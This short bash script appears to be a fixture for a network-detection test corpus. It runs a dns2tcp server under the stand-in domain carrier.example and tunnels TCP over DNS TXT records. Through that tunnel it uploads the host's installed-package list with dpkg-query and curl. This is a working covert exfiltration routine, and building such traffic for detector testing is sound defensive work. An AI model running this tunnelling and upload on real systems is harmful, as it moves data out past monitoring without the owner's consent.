#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=dns-tunnel half=report tool=dns2tcpc far=out seconds=30
# dns2tcp carries a TCP connection in TXT: a list of what is installed goes out over it.
if [ "$1" = out ]; then
	mkdir -p "$LAB/dns2tcp"
	printf '%s\n' 'listen = 203.0.113.66' 'port = 53' 'user = root' "chroot = $LAB/dns2tcp" 'domain = carrier.example' 'resources = web:203.0.113.66:80' >"$LAB/dns2tcp.conf"
	exec timeout 60 dns2tcpd -F -f "$LAB/dns2tcp.conf"
fi
timeout 26 dns2tcpc -z carrier.example -r web -l 8070 10.30.0.53 >/dev/null 2>&1 &
sleep 2
dpkg-query -W | head -c 50000 | curl -s -o /dev/null --max-time 20 -T - "http://127.0.0.1:8070/drop/$$-list"
wait; true
